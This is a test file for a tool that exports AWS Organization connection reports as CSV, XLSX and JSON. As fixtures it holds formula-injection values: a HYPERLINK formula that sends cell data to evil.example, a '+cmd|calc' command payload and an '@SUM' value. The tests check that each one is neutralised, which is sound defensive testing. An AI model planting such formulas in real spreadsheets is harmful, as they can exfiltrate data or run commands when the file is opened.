// Connection reports: the XLSX opened with exceljs (all three sheets), the CSV read back with exceljs's CSV
// reader (a real RFC 4180 parser, fast-csv), JSON validated by its published schema, formula injection,
// newlines and very long names, and the External ID masked unless the matching value is given.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import type { Connection, ConnectionHealth } from '../../main/core/health/index.js';
import type { OrganizationSnapshot } from '../../main/core/org/types.js';
import { computeCoverage } from '../../main/core/health/coverage.js';
import {
  REPORT_COLUMNS,
  XLSX_MAX_CELL_CHARS,
  buildJsonReport,
  connectionReportSchema,
  neutraliseFormula,
  renderCsvReport,
  renderJsonReport,
  renderXlsxReport,
  type ReportInput,
} from '../../main/core/reports/index.js';

const EXTERNAL_ID = 'report-test-external-id-7f2e';
const sha = createHash('sha256').update(EXTERNAL_ID).digest('hex');
const INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const LONG = 'x'.repeat(40_000);

const base = {
  managementAccountId: '111122223333',
  region: 'us-east-1',
  rolePath: '/',
  platformAccountId: '061190967865',
  externalIdSha256: sha,
  externalIdLast4: '7f2e',
  stackName: 'orgconnect-resource',
  roleName: 'orgconnect-platform-resource',
};
const connections: Connection[] = [
  {
    ...base,
    accountId: '111122223333',
    accountName: 'management',
    ouPath: 'Root',
    kind: 'billing',
    connectionName: 'management-billing',
    stackName: 'orgconnect-billing',
    roleName: 'orgconnect-platform-billing',
    roleArn: 'arn:aws:iam::111122223333:role/orgconnect-platform-billing',
  },
  {
    ...base,
    accountId: '222233334444',
    accountName: INJECTION,
    ouPath: 'Root/Workloads',
    kind: 'resource',
    connectionName: '+cmd|calc',
    roleArn: 'arn:aws:iam::222233334444:role/orgconnect-platform-resource',
  },
  {
    ...base,
    accountId: '333344445555',
    accountName: 'line one\nline two, "quoted"',
    ouPath: `Root/${LONG}`,
    kind: 'resource',
    connectionName: 'multi-line',
    externalIdSha256: 'f'.repeat(64),
    externalIdLast4: 'zzzz',
  },
];
const at = '2025-03-01T12:00:00.000Z';
const health: Record<string, ConnectionHealth> = {
  '111122223333/billing': {
    connectionKey: '111122223333/billing',
    overall: 'healthy',
    checkedAt: at,
    checks: [
      {
        id: 'stack-status',
        status: 'pass',
        summary: 'Stack is CREATE_COMPLETE.',
        facts: { stackStatus: 'CREATE_COMPLETE' },
      },
      { id: 'cur', status: 'pass', summary: 'ok' },
    ],
  },
  '222233334444/resource': {
    connectionKey: '222233334444/resource',
    overall: 'unhealthy',
    checkedAt: at,
    checks: [
      {
        id: 'stack-status',
        status: 'pass',
        summary: 'Stack is UPDATE_COMPLETE.',
        facts: { stackStatus: 'UPDATE_COMPLETE' },
      },
      {
        id: 'role-last-used',
        status: 'warn',
        summary: 'The platform has not used the role yet (30 hours after it was created).',
      },
      {
        id: 'role-trust',
        status: 'fail',
        summary: 'The role trusts 999999999999 instead of 061190967865.',
        fix: '-Deploy again',
      },
    ],
  },
};
const snapshot = {
  organization: { id: 'o-abc123', managementAccountId: '111122223333' },
  accounts: [
    { id: '111122223333', status: 'ACTIVE', state: 'ACTIVE' },
    { id: '222233334444', status: 'ACTIVE', state: 'ACTIVE' },
    { id: '333344445555', status: 'ACTIVE', state: 'ACTIVE' },
    { id: '444455556666', status: 'ACTIVE', state: 'ACTIVE' },
    { id: '555566667777', status: 'SUSPENDED', state: 'CLOSED' },
  ],
} as unknown as OrganizationSnapshot;
const input: ReportInput = { connections, health, snapshot, generatedAt: at };

async function readCsv(text: string): Promise<string[][]> {
  const workbook = new ExcelJS.Workbook();
  // Keep every cell as text: the reader must not turn '=...' or dates into something else.
  const sheet = await workbook.csv.read(Readable.from([text]), {
    parserOptions: { delimiter: ',' },
    map: (value: string) => value,
  });
  const rows: string[][] = [];
  sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1).map((v) => String(v ?? ''))));
  return rows;
}

describe('reports', () => {
  test('CSV: RFC 4180 with CRLF and a BOM, connection name and role ARN first, read back intact and neutralised', async () => {
    const csv = renderCsvReport(input);
    assert.ok(csv.startsWith('\uFEFF'));
    assert.ok(csv.includes('\r\n'));
    const rows = await readCsv(csv.slice(1));
    // Status comes third, after the two columns the platform's bulk import reads.
    assert.deepEqual(rows[0], [
      ...REPORT_COLUMNS.slice(0, 2).map((c) => c.header),
      'Status',
      ...REPORT_COLUMNS.slice(2).map((c) => c.header),
    ]);
    assert.deepEqual(rows[0]?.slice(0, 2), ['Connection name', 'Role ARN']);
    const at = (header: string) => (rows[0] ?? []).indexOf(header);
    assert.equal(rows.length, 4);
    const [, billing, injected, multiline] = rows as [string[], string[], string[], string[]];
    assert.deepEqual(billing.slice(0, 4), [
      'management-billing',
      'arn:aws:iam::111122223333:role/orgconnect-platform-billing',
      'Connected',
      'Billing',
    ]);
    assert.equal(billing[at('Stack status')], 'CREATE_COMPLETE');
    assert.equal(billing[at('External ID')], '••••7f2e');
    assert.equal(injected[0], "'+cmd|calc");
    assert.equal(injected[at('Account name')], `'${INJECTION}`);
    assert.equal(injected[at('Health')], 'unhealthy');
    assert.equal(injected[at('Failing checks')], 'role-last-used (warn); role-trust (fail)');
    assert.equal(multiline[at('Account name')], 'line one\nline two, "quoted"');
    assert.equal(multiline[at('OU path')], `Root/${LONG}`);
    // No role ARN was recorded: the report builds it the way IAM does.
    assert.equal(multiline[1], 'arn:aws:iam::333344445555:role/orgconnect-platform-resource');
    assert.equal(multiline[at('Health')], 'not checked');
    assert.doesNotMatch(csv, new RegExp(EXTERNAL_ID));
  });

  test('the External ID is shown only where the given value matches the stored sha256', async () => {
    const rows = await readCsv(renderCsvReport({ ...input, revealExternalId: EXTERNAL_ID }, { bom: false }));
    const externalId = (rows[0] ?? []).indexOf('External ID');
    assert.equal(rows[1]?.[externalId], EXTERNAL_ID);
    assert.equal(rows[3]?.[externalId], '••••zzzz', 'another connection (another External ID) stays masked');
  });

  test('neutraliseFormula covers = + - @ tab and CR, and leaves other text alone', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      assert.equal(neutraliseFormula(`${start}x`), `'${start}x`);
    assert.equal(neutraliseFormula('payments-prod'), 'payments-prod');
  });

  test('JSON: versioned, valid against the exported schema, with organization share and per-check results', () => {
    const report = buildJsonReport(input);
    assert.equal(report.schemaVersion, 1);
    assert.equal(report.organization.id, 'o-abc123');
    assert.equal(report.organization.activeAccounts, 4);
    assert.equal(report.organization.connectedShare, 0.75);
    assert.deepEqual(report.summary.health, {
      healthy: 1,
      degraded: 0,
      unhealthy: 1,
      unknown: 0,
      'not checked': 1,
    });
    assert.equal(report.connections[1]?.checks.find((c) => c.id === 'role-trust')?.status, 'fail');
    const parsed = connectionReportSchema.safeParse(JSON.parse(renderJsonReport(input)));
    assert.ok(parsed.success);
    assert.equal(connectionReportSchema.safeParse({ ...report, schemaVersion: 2 }).success, false);
  });

  test('XLSX: Summary, Connections and Problems sheets, text cells neutralised and within Excel limits', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await renderXlsxReport(input)) as never);
    assert.deepEqual(
      workbook.worksheets.map((s) => s.name),
      ['Summary', 'Connections', 'Not connected', 'Problems'],
    );

    const summary = workbook.getWorksheet('Summary') as ExcelJS.Worksheet;
    const items = new Map<string, unknown>();
    summary.eachRow((row, n) => n > 1 && items.set(String(row.getCell(1).value), row.getCell(2).value));
    assert.equal(items.get('Organization'), 'o-abc123');
    assert.equal(items.get('Active accounts in the Organization'), 4);
    assert.equal(items.get('Accounts connected'), 3);
    assert.equal(items.get('Share of the Organization connected'), 0.75);
    assert.equal(items.get('Unhealthy'), 1);
    assert.equal(items.get('Not checked'), 1);

    const sheet = workbook.getWorksheet('Connections') as ExcelJS.Worksheet;
    assert.equal(sheet.getCell('A1').value, 'Connection name');
    assert.equal(sheet.getCell('B1').value, 'Role ARN');
    assert.equal(sheet.getCell('A2').value, 'management-billing');
    assert.equal(sheet.getCell('B3').value, 'arn:aws:iam::222233334444:role/orgconnect-platform-resource');
    const headers = (sheet.getRow(1).values as unknown[]).map(String);
    const cell = (row: number, header: string) => sheet.getRow(row).getCell(headers.indexOf(header));
    assert.equal(sheet.getCell('A3').value, "'+cmd|calc");
    assert.equal(cell(3, 'Account name').value, `'${INJECTION}`);
    assert.equal(
      cell(3, 'Account name').type,
      ExcelJS.ValueType.String,
      'an injected name is text, not a formula',
    );
    assert.equal(cell(4, 'Account name').value, 'line one\nline two, "quoted"');
    const longCell = String(cell(4, 'OU path').value);
    assert.equal(longCell.length, XLSX_MAX_CELL_CHARS);
    assert.ok(longCell.endsWith('…'));
    assert.equal(cell(2, 'External ID').value, '••••7f2e');

    const problems = workbook.getWorksheet('Problems') as ExcelJS.Worksheet;
    assert.equal(problems.rowCount, 3);
    assert.deepEqual([problems.getCell('D2').value, problems.getCell('E2').value], ['role-trust', 'fail']);
    assert.equal(problems.getCell('G2').value, "'-Deploy again");
    assert.equal(problems.getCell('C2').value, `'${INJECTION}`);
    assert.deepEqual(
      [problems.getCell('D3').value, problems.getCell('E3').value],
      ['role-last-used', 'warn'],
    );
  });

  test('with coverage: every account of the Organization, a Status for each, Not connected with reason and fix', async () => {
    const orgAccounts = [
      ['111122223333', 'management', 'ACTIVE'],
      ['222233334444', INJECTION, 'ACTIVE'],
      ['333344445555', 'multi', 'ACTIVE'],
      ['444455556666', '@SUM(A1:A9)', 'ACTIVE'],
      ['555566667777', 'closed-one', 'SUSPENDED'],
    ].map(([id, name, status]) => ({
      id,
      name,
      status,
      state: status,
      ouPath: 'Root',
      joinedTimestamp: '2025-01-01T00:00:00.000Z',
      isManagement: id === '111122223333',
    }));
    const coverage = computeCoverage({
      snapshot: { ...snapshot, accounts: orgAccounts, discoveredAt: at } as unknown as OrganizationSnapshot,
      connections,
      attempts: [
        {
          accountId: '444455556666',
          kind: 'resource',
          state: 'failed',
          action: 'create',
          code: 'STACK_ROLLBACK',
          reason: 'The stack rolled back',
          fix: 'Delete the stack and deploy again',
          at,
        },
      ],
      lastLookAt: at,
    });
    const series = [
      {
        day: '2025-02-28',
        at: '2025-02-28T10:00:00.000Z',
        healthy: 2,
        degraded: 0,
        unhealthy: 1,
        unknown: 0,
        activeAccounts: 4,
        connectedActive: 3,
        share: 0.75,
      },
    ];
    const withCoverage: ReportInput = { ...input, coverage, series };

    const rows = await readCsv(renderCsvReport(withCoverage, { bom: false }));
    const col = (header: string) => (rows[0] ?? []).indexOf(header);
    const statusOf = new Map(rows.slice(1).map((row) => [row[col('Account ID')], row[col('Status')]]));
    assert.deepEqual(Object.fromEntries(statusOf), {
      '111122223333': 'Connected',
      '222233334444': 'Connected',
      '333344445555': 'Connected',
      '444455556666': 'Not connected',
      '555566667777': 'Not connectable',
    });
    const failedRow = rows.find((row) => row[col('Account ID')] === '444455556666') ?? [];
    assert.equal(failedRow[col('Account name')], "'@SUM(A1:A9)", 'a not-connected name is neutralised too');
    assert.equal(failedRow[col('Connection name')], '');

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await renderXlsxReport(withCoverage)) as never);
    const notConnected = workbook.getWorksheet('Not connected') as ExcelJS.Worksheet;
    const header = (notConnected.getRow(1).values as unknown[]).map(String);
    const cell = (r: number, h: string) => notConnected.getRow(r).getCell(header.indexOf(h)).value;
    assert.equal(notConnected.rowCount, 3);
    assert.equal(cell(2, 'Account ID'), '444455556666');
    assert.equal(cell(2, 'Reason'), 'failed');
    assert.equal(cell(2, 'Fix'), 'Delete the stack and deploy again');
    assert.equal(cell(2, 'Account name'), "'@SUM(A1:A9)");
    assert.equal(cell(3, 'Status'), 'Not connectable');
    const summary = workbook.getWorksheet('Summary') as ExcelJS.Worksheet;
    const byItem = new Map<string, ExcelJS.Row>();
    summary.eachRow((row) => byItem.set(String(row.getCell(1).value), row));
    assert.equal(byItem.get('Share of the Organization connected')?.getCell(2).value, 0.75);
    assert.equal(byItem.get('Active accounts not connected')?.getCell(2).value, 1);
    assert.deepEqual((byItem.get('2025-02-28')?.values as unknown[]).slice(1), [
      '2025-02-28',
      2,
      0,
      1,
      0,
      4,
      3,
      0.75,
    ]);
    assert.equal(buildJsonReport(withCoverage).coverage?.summary.counts['not-connected'], 1);
  });
});
